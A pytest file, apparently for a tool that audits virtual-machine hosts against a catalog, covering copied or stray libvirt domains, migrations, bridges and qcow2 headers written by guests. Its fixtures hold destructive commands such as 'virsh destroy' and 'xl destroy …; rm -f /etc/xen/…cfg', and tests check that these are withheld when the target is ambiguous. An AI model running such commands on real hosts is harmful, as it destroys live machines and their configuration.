    open_one = Bridge("br0", "", "", settings={"ipv6/accept_ra": "1", "ipv6/disable_ipv6": "0"})
    whole = replace(ledger(networks=(OFFICE,)), vms=())
    observed = [node(others=(open_one, replace(open_one, name="br1"))), Observed("node2", reached=False)]
    assert kinds(compare(whole, observed[:1])) == []
    (text,) = doubts(whole, observed)
    assert text.startswith("host node1: network Office: bridge br0 is this host's own")
    assert "sysctl -w net.ipv6.conf.br0.accept_ra=0" in text


def test_an_inventory_travels_as_json() -> None:
    sent = node(domains=(Domain("one-3", CATALOG, 3, "u3", "RUNNING", macs=("a",)),), rules={"x": 1})
    assert from_plain(Observed, to_plain(sent)) == sent


@pytest.mark.parametrize(
    ("head", "told"),
    [
        (b"", (0, "")),
        (b"QFI\xfb", (0, "")),
        (
            b"QFI\xfb\0\0\0\3" + (32).to_bytes(8, "big") + (4).to_bytes(4, "big") + bytes(4) + b"\0" * 7 + b"\7base",
            (7, "base"),
        ),
        (b"QFI\xfb\0\0\0\3" + b"\xff" * 12 + bytes(4) + b"\0" * 7 + b"\7", (7, "")),
        (
            b"QFI\xfb\0\0\0\3" + (32).to_bytes(8, "big") + b"\xff" * 4 + bytes(4) + bytes(8) + b"x" * 5000,
            (0, "x" * 1023),
        ),
    ],
)
def test_a_header_that_a_guest_wrote_harms_nobody(tmp_path: Path, head: bytes, told: tuple[int, str]) -> None:
    path = tmp_path / "disk.0"
    path.write_bytes(head and head.ljust(104, b"\0"))
    assert qcow2_size_and_backing(str(path)) == told


@pytest.mark.parametrize(("port", "found"), [(5901, "5901"), (0, "(none)")])
def test_graphics_on_another_port_than_the_machines_own(port: int, found: str) -> None:
    vm = LedgerVm(
        Vm(3, "u3", "web", "kvm", 1.0, 64, graphics=Graphics(port=5900)), "node1", "RUNNING", "RUNNING", True, 1
    )
    domain = Domain("one-3", CATALOG, 3, "u3", "RUNNING", autostart=True, port=port)
    differences = [text for text, _remedy in audit_findings._domain_differences(vm, domain)]
    assert differences == [f"its graphics are on port {found}, and its own is 5900"]
    assert list(audit_findings._domain_differences(vm, replace(domain, port=5900))) == []


COPY = "9d4b6c0e-1111-4222-8333-123456789abc"


def copied(*domains: Domain) -> list[Finding]:
    whole = replace(ledger(), vms=(replace(ledger().vms[0], vm=Vm(3, WHOLE, "web", "kvm", 1.0, 64)),))
    directory = VmDirectory("/d/3", "3", CATALOG, 3, WHOLE, 1, (VmFile("vm.json"),))
    return compare(whole, [node(domains=domains, directories=(directory,))])


@pytest.mark.parametrize("first", [True, False])
@pytest.mark.parametrize(
    "told", [{"name": "web-copy", "uuid": COPY}, {"name": "one-12", "uuid": WHOLE}, {"name": "one-12", "uuid": COPY}]
)
def test_a_copy_of_a_machines_domain_is_named_and_the_machine_is_as_it_was(first, told) -> None:
    """Whichever comes first, and where only one of both, name or UUID, is another."""
    disks, ending = ("/d/3/disk.0",), "virsh destroy one-3"
    own = Domain("one-3", CATALOG, 3, WHOLE, "RUNNING", autostart=True, disks=disks, undefine=ending)
    copy = Domain(
        catalog=CATALOG, vm_id=3, state="POWEROFF", disks=disks, undefine=f"virsh undefine {COPY}",
        unmark=f"virsh metadata {COPY} --remove", forget="virsh undefine --nvram web-copy", **told,
    )  # fmt: skip
    (found,) = copied(*((own, copy) if first else (copy, own)))
    assert (found.kind, found.host, found.object) == ("domain-copied", "node1", f"domain {told['name']}")
    assert "VM web (id 3)" in found.found and "one-3" in found.found and "/d/3/disk.0" in found.found
    assert "Nothing was changed" in found.remedy and copy.unmark in found.remedy and copy.undefine in found.remedy
    assert "one-3" not in found.remedy and copy.forget not in found.remedy


def test_a_copy_that_is_called_as_another_machine_is_ended_by_no_command() -> None:
    other = LedgerVm(Vm(12, "u12", "db", "kvm", 1.0, 64), "node1", "RUNNING", "RUNNING", False, 1)
    own = Domain("one-3", CATALOG, 3, "u3", "RUNNING", autostart=True)
    copy = Domain("one-12", CATALOG, 3, COPY, "RUNNING", undefine="xl destroy one-12; rm -f /etc/xen/one-12.cfg")
    whole = ledger()
    found = compare(replace(whole, vms=(*whole.vms, other)), [node(domains=(own, copy))])
    (named,) = [finding for finding in found if finding.kind == "domain-copied"]
    assert not ENDING.search(named.remedy) and "look at it on the host itself" in named.remedy


@pytest.mark.parametrize("told", [{"name": "one-3", "uuid": COPY}, {"name": "x", "uuid": "u3"}])
def test_a_stranger_that_is_called_as_a_machine_of_its_host_is_ended_by_no_command(told) -> None:
    stranger = Domain(catalog=CATALOG, vm_id=9, state="RUNNING", forget=f"virsh destroy {told['name']}", **told)
    found = compare(ledger(), [node(domains=(stranger,))])
    (left,) = [finding for finding in found if finding.kind == "domain-left"]
    assert not ENDING.search(left.remedy) and "look at it on the host itself" in left.remedy


class Read(tuple):
    """Machines that count how often all of them are looked through."""

    times = 0

    def __iter__(self):
        Read.times += 1
        return super().__iter__()

    def __reversed__(self):
        Read.times += 1
        return iter(self[::-1])


@pytest.mark.parametrize("hosts", [2, 40])
def test_the_machines_of_all_hosts_are_looked_through_as_often_for_many_hosts_as_for_few(hosts) -> None:
    names = [f"node{number}" for number in range(hosts)]
    machines = Read(
        LedgerVm(Vm(number, f"u{number}", f"web-{number}", "kvm", 1.0, 64), name, "RUNNING", "RUNNING", True, 1)
        for number, name in enumerate(names)
    )
    # On each host a domain of the machine that is on the next one.
    observed = [
        Observed(
            name,
            catalog=CATALOG,
            plan_number=5,
            inventory=Inventory(domains=(Domain(f"one-{other}", CATALOG, other, f"u{other}", "RUNNING", forget="rm"),)),
        )
        for number, name in enumerate(names)
        for other in [(number + 1) % hosts]
    ]
    Read.times = 0
    found = compare(Ledger(CATALOG, 5, hosts=dict.fromkeys(names, "MONITORED"), vms=machines), observed)
    assert kinds(found).count("domain-left") == kinds(found).count("domain-missing") == hosts
    left = [each for each in found if each.kind == "domain-left"]
    assert all(f"has on host node{(int(each.host[4:]) + 1) % hosts}" in str(each) for each in left)
    assert 0 < Read.times <= 4


# -- machines that move ------------------------------------------------------------------------------------------------
def of_move(vm_id: int = 3, uuid: str = "u3") -> dict[str, tuple]:
    domain = Domain(f"one-{vm_id}", CATALOG, vm_id, uuid, "POWEROFF", forget=f"virsh undefine one-{vm_id}")
    directory = VmDirectory(f"/srv/datastores/0/{vm_id}", str(vm_id), CATALOG, vm_id, uuid)
    return {"domains": (domain,), "directories": (directory,)}


def at_second(moves: tuple[MoveSeen, ...] = (), **seen) -> Observed:
    return replace(node(**seen), host="node2", moves=moves)


def fleet(**changes) -> Ledger:
    known = ledger(settled=False)
    return replace(known, hosts={"node1": "MONITORED", "node2": "MONITORED"}, vms=(replace(known.vms[0], **changes),))


def test_what_comes_to_the_host_that_a_machine_moves_to_is_no_finding() -> None:
    assert kinds(compare(fleet(moving="node2"), [node(), at_second(**of_move())])) == []
    assert kinds(compare(fleet(), [node(), at_second(**of_move())])) == ["domain-left", "directory-left"]


def test_what_a_decided_move_has_left_is_unfinished_and_has_no_command() -> None:
    moves = (MoveSeen(3, "f" * 32, "coming"),)
    (found,) = compare(fleet(), [node(), at_second(moves, **of_move())])
    assert (found.kind, found.host, found.severity) == ("machine-unfinished", "node2", "unfinished")
    assert "it is on host node1 by now" in found.found and "nebula.provision.site" in found.remedy
    # Once it is gone, the note of it alone is nothing.
    assert compare(fleet(), [node(), at_second(moves)]) == []


@pytest.mark.parametrize("stage", ["coming", "leaving", "left"])
def test_a_machine_of_which_it_is_known_where_it_is_is_no_finding_where_it_was(stage: str) -> None:
    """Its new host has not said how it has it: what its former host keeps is unfinished, and nothing of it missing."""
    known = fleet(host="node2", state="BOOT_MIGRATE", wanted="RUNNING", settled=False)
    moves = (MoveSeen(3, "f" * 32, stage),)
    there = replace(node(**of_move()), moves=moves)
    (found,) = compare(known, [there, at_second()])
    assert (found.kind, found.host, found.severity) == ("machine-unfinished", "node1", "unfinished")
    assert "it is on host node2 by now" in found.found
    assert compare(known, [replace(node(), moves=moves), at_second(**of_move())]) == []


@pytest.mark.parametrize("stage", ["coming", "leaving", "left", "cleared", "stayed"])
def test_a_machine_that_its_former_host_still_runs_is_a_finding_there(stage: str) -> None:
    of_it = of_move()
    of_it["domains"] = (replace(of_it["domains"][0], state="RUNNING"),)
    known = fleet(host="node2", state="RUNNING", wanted="RUNNING", settled=False)
    there = replace(node(**of_it), moves=(MoveSeen(3, "f" * 32, stage),))
    found = compare(known, [there, at_second()])
    assert kinds(found) == ["domain-left", "directory-left"]
    assert found[0].found.endswith("which the catalog has on host node2, and it runs here")
    assert "end nothing here as long as it is not known which of both is in use" in found[0].remedy


@pytest.mark.parametrize("stage", ["cleared", "arrived", "stayed", "absent"])
def test_what_is_there_after_a_move_has_ended_is_nothing_of_the_move(stage: str) -> None:
    """No run clears that away, so nobody says that one does."""
    found = compare(fleet(), [node(), at_second((MoveSeen(3, "f" * 32, stage),), **of_move())])
    assert kinds(found) == ["domain-left", "directory-left"]
    assert all("this may be that very machine" in each.remedy for each in found)


def test_the_directory_of_a_machine_that_comes_may_have_no_mark_yet() -> None:
    unmarked = VmDirectory("/srv/datastores/0/3", "3", files=(VmFile("disk.0"),))
    assert compare(fleet(moving="node2"), [node(), at_second(directories=(unmarked,))]) == []
    # Of another number it is none of it.
    other = replace(unmarked, path="/srv/datastores/0/4", name="4")
    assert kinds(compare(fleet(moving="node2"), [node(), at_second(directories=(other,))])) == ["directory-left"]
    assert kinds(compare(fleet(), [node(), at_second(directories=(unmarked,))])) == ["directory-left"]


def test_a_host_can_hide_nothing_by_saying_that_it_moved() -> None:
    moves = (MoveSeen(3, "f" * 32, "left"), MoveSeen(8, "f" * 32, "left"))
    found = compare(fleet(), [node(), at_second(moves, **of_move(8, "u8"))])
    assert kinds(found) == ["domain-left", "directory-left"]
